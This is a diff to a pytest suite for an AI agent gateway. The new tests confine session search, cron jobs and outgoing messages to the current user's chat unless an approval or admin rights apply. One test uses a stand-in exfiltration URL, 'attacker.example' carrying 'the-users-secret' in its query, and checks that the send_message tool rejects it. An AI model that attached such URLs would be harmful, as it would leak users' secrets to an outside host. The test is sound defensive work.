@@ -10,19 +10,20 @@ import pytest
 
 from hermes_gateway.domain.cron import PAUSED, SCHEDULED
 from hermes_gateway.domain.ports import SessionStores
+from hermes_gateway.domain.reach import MediaReach, SendReach, TurnReach, search_scope
 from hermes_gateway.domain.session_key import build_session_key
-from hermes_gateway.domain.source import SessionSource
+from hermes_gateway.domain.source import SessionSource, compact_source, sender_of
 from hermes_gateway.domain.targets import Channel, ResolvedTarget
 from hermes_gateway.memory.builtin import BuiltinMemory
 from hermes_gateway.memory.manager import MemoryManager
 from hermes_gateway.observability import hash_id
 from hermes_gateway.providers.base import INVALID_ARGUMENTS, ToolCall, ToolSpec
 from hermes_gateway.tools.base import MAX_RESULT_CHARS, SpecTool, ToolContext, ToolError, ToolResult, execute
-from hermes_gateway.tools.cronjob import job_id_for
+from hermes_gateway.tools.cronjob import CRONJOB, job_id_for
 from hermes_gateway.tools.memory import NoteLimits
 from hermes_gateway.tools.registry import tools_for
 from hermes_gateway.tools.schema import SchemaError, check_arguments
-from hermes_gateway.tools.send_message import delivery_id_for
+from hermes_gateway.tools.send_message import SEND_MESSAGE, delivery_id_for
 from tests.fakes.jobs import FakeJobStore
 from tests.fakes.memory_notes import FakeNoteStore
 from tests.fakes.services import FakeDeliveryQueue, FakeDirectory, make_settings
@@ -30,6 +31,18 @@ from tests.fakes.sessions import memory_stores, seed
 
 NOW = 1_795_000_000.0  # 2026-11-18
 ORIGIN = ResolvedTarget("telegram", "99", None, label="origin")
+AL = SessionSource("telegram", chat_id="99", chat_type="dm", user_id="42", user_name="Al")
+KEY = "agent:main:telegram:dm:99"
+
+
+def _reach(source: SessionSource = AL, **changes: Any) -> TurnReach:
+    base = TurnReach(
+        search=search_scope("agent:main", source, scope="user", session_key=KEY),
+        send=SendReach(ORIGIN),
+        media=MediaReach(),
+        files_session="s-1",
+    )
+    return replace(base, **changes)
 
 
 def _ctx(**changes: Any) -> ToolContext:
@@ -40,8 +53,10 @@ def _ctx(**changes: Any) -> ToolContext:
         profile="default",
         now=NOW,
         session_id="s-1",
-        session_key="agent:main:telegram:dm:99",
-        user_hash=hash_id("42"),
+        session_key=KEY,
+        user_hash=sender_of(AL),
+        source=AL.to_dict(),
+        reach=_reach(),
         origin=ORIGIN,
         home_channels={"slack": "C-home"},
         correlation_id="evt-1",
@@ -239,30 +254,56 @@ def test_memory_without_a_manager_is_an_error() -> None:
 # --- session_search ----------------------------------------------------------------------------
 
 
-def _session_with(stores: SessionStores, chat: str, texts: list[str], profile: str | None = None) -> str:
-    source = SessionSource("telegram", chat_id=chat, chat_type="dm", user_id="42", profile=profile)
+def _session_with(
+    stores: SessionStores, chat: str, texts: list[str], profile: str | None = None, user: str = "42"
+) -> str:
+    source = SessionSource("telegram", chat_id=chat, chat_type="dm", user_id=user, profile=profile)
     roles = tuple("user" for _ in texts)
     return seed(stores, source, build_session_key(source, profile=profile), *texts, now=NOW, roles=roles)
 
 
-def test_session_search_finds_past_transcripts_of_the_profile() -> None:
+def test_session_search_finds_the_users_past_transcripts_and_no_one_elses() -> None:
+    # Given Al's earlier DM session, Bo's DM session and Al's session with another profile's bot
     store = memory_stores()
-    old = _session_with(store, "98", ["my cat is called Miso", "unrelated"])
-    _session_with(store, "97", ["miso soup in another profile"], profile="coder")
+    old = _session_with(store, "99", ["my cat is called Miso", "unrelated"])
+    _session_with(store, "77", ["Bo's miso recipe"], user="43")
+    _session_with(store, "99", ["miso soup in another profile"], profile="coder")
 
+    # When Al's turn searches
     found = _run(_ctx(sessions=store.catalogue), "session_search", {"query": "  MISO "})
 
+    # Then only his own session of this profile is read
     assert found["query"] == "MISO"
+    assert found["searched"] == "this user's sessions (in a group: the group's)"
     assert [(h["session_id"], h["this_session"]) for h in found["hits"]] == [(old, False)]
     assert "Miso" in found["hits"][0]["snippet"]
     assert found["hits"][0]["date"].startswith("2026-11-")
+    # and with the profile scope (an admin, or the operator's choice), Bo's too
+    whole = _reach(search=search_scope("agent:main", AL, scope="profile"))
+    found = _run(_ctx(sessions=store.catalogue, reach=whole), "session_search", {"query": "miso"})
+    assert len(found["hits"]) == 2 and found["searched"] == "every session of this agent"
 
 
-def test_session_search_in_a_cron_turn_searches_the_profile() -> None:
+def test_session_search_in_a_cron_turn_searches_its_creators_sessions() -> None:
     store = memory_stores()
-    _session_with(store, "98", ["the budget is 5k"])
+    mine = _session_with(store, "99", ["the budget is 5k"])
+    _session_with(store, "77", ["Bo's budget is 9k"], user="43")
     ctx = _ctx(kind="cron", sessions=store.catalogue, session_key=None, session_id=None)
-    assert len(_run(ctx, "session_search", {"query": "budget"}, kind="cron")["hits"]) == 1
+    assert [h["session_id"] for h in _run(ctx, "session_search", {"query": "budget"}, kind="cron")["hits"]] == [mine]
+
+
+def test_session_search_without_a_known_reach_reads_only_its_own_chat() -> None:
+    store = memory_stores()
+    mine = _session_with(store, "99", ["the budget is 5k"])
+    _session_with(store, "77", ["Bo's budget is 9k"], user="43")
+    hits = _run(_ctx(sessions=store.catalogue, reach=None), "session_search", {"query": "budget"})["hits"]
+    assert [h["session_id"] for h in hits] == [mine]
+    assert (
+        _run(_ctx(sessions=store.catalogue, reach=None, session_key=None), "session_search", {"query": "budget"})[
+            "hits"
+        ]
+        == []
+    )
 
 
 def test_session_search_refuses_a_too_short_query() -> None:
@@ -290,9 +331,64 @@ def test_send_message_queues_a_mirrored_push_to_the_resolved_target() -> None:
             "text": "deploy done",
             "correlation_id": "evt-1",
             "session": hash_id("agent:main:telegram:dm:99"),
+            "session_id": "s-1",  # the turn's own session: the stored files it may attach
         }
     ]
     assert result == {"status": "queued for #ops", "delivery_id": delivery_id_for("turn-1", "call-5")}
+
+
+@pytest.mark.parametrize(
+    ("target", "listed", "beyond"),
+    [
+        ("origin", (), None),
+        ("telegram:99", (), None),  # the turn's own chat, named by its id
+        ("telegram:99:7", (), None),  # a thread of it
+        ("slack", (), None),  # a home channel
+        ("local", (), None),
+        ("telegram:12345", (), "send a message to telegram:12345, outside this chat"),  # someone else's chat
+        ("#ops", (), "send a message to #ops, outside this chat"),
+        ("#ops", ("#ops",), None),
+        ("#ops", ("slack:C-ops",), None),  # listed by its id
+        ("telegram:-100:17", ("telegram:-100",), None),  # any thread of a listed chat
+        ("telegram:-100:18", ("telegram:-100:17",), "send a message to telegram:-100:18, outside this chat"),
+        ("#nowhere", (), None),  # unresolvable: the call's own error when it runs, nothing to approve
+    ],
+)
+def test_send_message_beyond_the_turns_chat_needs_an_approval(
+    target: str, listed: tuple[str, ...], beyond: str | None
+) -> None:
+    ctx = _ctx(reach=_reach(send=SendReach(ORIGIN, listed)))
+    ctx.directory.remember(Channel("slack", "C-ops", None, "ops", "group"), NOW)  # type: ignore[union-attr]
+    assert SEND_MESSAGE.beyond_reach({"target": target, "text": "hi"}, ctx) == beyond
+
+
+def test_cronjob_delivering_beyond_the_turns_chat_needs_an_approval() -> None:
+    ctx = _ctx()
+    create = {"action": "create", "prompt": "p", "schedule": "every 1d"}
+    assert CRONJOB.beyond_reach(create, ctx) is None
+    assert CRONJOB.beyond_reach({**create, "deliver": ["origin", "slack"]}, ctx) is None
+    assert CRONJOB.beyond_reach({**create, "deliver": ["origin", "telegram:555"]}, ctx) == (
+        "schedule messages to telegram:555, outside this chat"
+    )
+    assert CRONJOB.beyond_reach({"action": "list"}, ctx) is None
+
+
+def test_send_message_attaches_only_urls_the_turn_was_given_and_its_own_sessions_files() -> None:
+    given = "https://files.example/report.pdf"
+    ctx = _ctx(reach=_reach(media=MediaReach(frozenset({given}), ("cdn.example",))))
+    made_up = "https://attacker.example/p.png?d=the-users-secret"
+    assert "did not come from the user" in _error(
+        ctx, "send_message", {"target": "origin", "text": "x", "media": [made_up]}
+    )
+    assert ctx.delivery.bodies == []  # type: ignore[union-attr]
+    media = [given, "https://cdn.example/logo.png", "default/s-1/3-0"]
+    _run(ctx, "send_message", {"target": "origin", "text": "x", "media": media})
+    body = ctx.delivery.bodies[0]  # type: ignore[union-attr]
+    assert [m["reference"] for m in body["media"]] == media and body["session_id"] == "s-1"
+    # a turn that reaches nothing attaches nothing
+    assert "did not come from the user" in _error(
+        _ctx(reach=None), "send_message", {"target": "origin", "text": "x", "media": [given]}
+    )
 
 
 @pytest.mark.parametrize(
@@ -359,6 +455,22 @@ def test_cronjob_create_list_pause_resume_remove() -> None:
     assert resumed["next_run_at"] > NOW + 100_000
     assert _run(ctx, "cronjob", {"action": "remove", "id": created["id"]}) == {"removed": created["id"]}
     assert _run(ctx, "cronjob", {"action": "list"})["count"] == 0
+
+
+def test_cronjob_jobs_are_their_creators_and_an_admins() -> None:
+    # Given a job Al made
+    ctx = _ctx()
+    made = _run(ctx, "cronjob", {"action": "create", "prompt": "p", "schedule": "every 1d"})["created"]
+    assert ctx.jobs.get(made["id"]).creator == compact_source(AL)  # type: ignore[union-attr]
+    # When Bo's turn lists or removes jobs, then he neither sees nor touches it
+    bo = SessionSource("telegram", chat_id="77", chat_type="dm", user_id="43")
+    bos = replace(ctx, user_hash=sender_of(bo), source=bo.to_dict(), reach=_reach(bo))
+    assert _run(bos, "cronjob", {"action": "list"})["count"] == 0
+    assert "there is no job" in _error(bos, "cronjob", {"action": "remove", "id": made["id"]})
+    # an admin sees and may remove every job
+    admin = replace(bos, reach=_reach(bo, admin=True))
+    assert [j["id"] for j in _run(admin, "cronjob", {"action": "list"})["jobs"]] == [made["id"]]
+    assert _run(admin, "cronjob", {"action": "remove", "id": made["id"]}) == {"removed": made["id"]}
 
 
 def test_cronjob_a_one_shot_runs_once() -> None:
